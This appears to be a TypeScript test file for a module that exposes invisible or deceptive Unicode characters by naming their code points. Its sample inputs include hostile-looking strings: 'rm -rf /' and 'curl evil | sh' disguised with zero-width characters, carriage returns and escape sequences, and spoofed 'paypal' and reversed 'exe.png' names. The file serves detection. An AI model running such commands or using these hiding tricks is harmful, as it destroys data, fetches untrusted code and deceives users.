import fc from 'fast-check';
import { revealHidden, revealInProse, revealedPieces } from './reveal';

const hidden = fc.constantFrom(
  '\r',
  '\u0000',
  '\u001b',
  '\u001b[2K',
  '\u009b',
  '\u202e',
  '\u2066',
  '\u200b',
  '\u200d',
  '\u00ad',
  '\u2028',
  '\u00a0',
  '\ufeff',
  '\u{e0041}',
  '\ud83d',
);
const pieces = fc.array(fc.oneof(fc.string(), hidden));

describe('revealing what text hides', () => {
  it.each([
    [
      'what cannot be seen',
      'rm\u200b -rf\u202e /\u001b[2K ~\ttab\nline',
      'rm⟨U+200B⟩ -rf⟨U+202E⟩ /⟨U+001B⟩[2K ~\ttab\nline',
    ],
    ['what a terminal would overwrite', 'curl evil | sh\rls', 'curl evil | sh⟨U+000D⟩ls'],
    ['what stands in an escape sequence', '\u001b]0;curl evil | sh\u0007ls', '⟨U+001B⟩]0;curl evil | sh⟨U+0007⟩ls'],
    [
      'blanks that are no space, and lines that are no line feed',
      'a\u00a0b\u2028c\u3000d',
      'a⟨U+00A0⟩b⟨U+2028⟩c⟨U+3000⟩d',
    ],
    ['tags and selectors that carry text', 'ok\u{e0072}\u{e006d}\ufe0f', 'ok⟨U+E0072⟩⟨U+E006D⟩⟨U+FE0F⟩'],
    ['null and half a character', 'a\u0000b\ud83d', 'a⟨U+0000⟩b⟨U+D83D⟩'],
  ])('names %s', (_, text, shown) => {
    expect(revealHidden(text)).toBe(shown);
  });

  it('leaves nothing out and lets nothing unseen through, whatever comes', () => {
    fc.assert(
      fc.property(pieces, (parts) => {
        const text = parts.join('');
        const original = revealedPieces(text, 'decision').map((piece) =>
          'text' in piece ? piece.text : String.fromCodePoint(Number.parseInt(piece.mark.slice(3, -1), 16)),
        );
        expect(original.join('')).toBe(text);
        expect(revealHidden(text)).not.toMatch(/[^\P{C}\n\t\p{Co}\p{Cn}]/u);
      }),
    );
  });

  it('names every character that is shown as nothing', () => {
    const ignorable = /[\p{Default_Ignorable_Code_Point}\u{13430}-\u{1343f}]/u;
    const raw: string[] = [];
    for (let code = 0; code <= 0x10ffff; code++) {
      const character = String.fromCodePoint(code);
      if (ignorable.test(character) && revealHidden(character) === character) raw.push(code.toString(16));
    }
    expect(raw).toEqual([]);
  });

  it('leaves ordinary writing alone in prose, and names there what steers or hides', () => {
    const ordinary = 'Zeile 1\r\n\tEinzug — 你好 🎉 👩‍💻 ❤️ é می‌خواهم מזל\u00a0טוב';
    expect(revealInProse(ordinary)).toBe(ordinary.replace('\r\n', '\n'));
    expect(revealInProse('abc\u202eexe.png')).toBe('abc⟨U+202E⟩exe.png');
    expect(revealInProse('pay\u200bpal\rnot')).toBe('pay⟨U+200B⟩pal⟨U+000D⟩not');
  });
});
